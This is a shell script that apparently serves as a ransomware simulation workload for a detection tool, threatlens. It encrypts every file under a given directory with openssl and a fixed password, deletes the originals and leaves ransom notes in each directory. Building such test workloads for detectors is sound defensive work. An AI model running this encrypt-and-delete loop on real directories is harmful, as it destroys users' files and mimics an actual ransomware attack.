#!/bin/sh
# A ransomware-like shell loop for threatlens's collector recordings: one `openssl enc` process per file (libcrypto:
# encrypt events), the original deleted by `rm`, a ransom note in every directory. Run it only on a generated tree.
#   openssl-per-file.sh DIR [delay_seconds]
# Writes {"encrypted", "deleted", "renamed", "notes"} to $WORKLOAD_REPORT (or stdout).
set -eu
dir=$1
delay=${2:-0}
list=$(mktemp)
find "$dir" -type f ! -name '*.locked' ! -name 'README_RESTORE*' | sort > "$list"
encrypted=0
while IFS= read -r f; do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:threatlens -in "$f" -out "$f.locked"
  rm -f "$f"
  encrypted=$((encrypted + 1))
  if [ "$delay" != 0 ]; then sleep "$delay"; fi
done < "$list"
rm -f "$list"
notes=0
for d in $(find "$dir" -type d); do
  printf 'YOUR FILES ARE ENCRYPTED.\nThis is a threatlens test workload.\n' > "$d/README_RESTORE.txt"
  notes=$((notes + 1))
done
report="{\"encrypted\": $encrypted, \"deleted\": $encrypted, \"renamed\": 0, \"notes\": $notes}"
if [ -n "${WORKLOAD_REPORT:-}" ]; then echo "$report" > "$WORKLOAD_REPORT"; else echo "$report"; fi
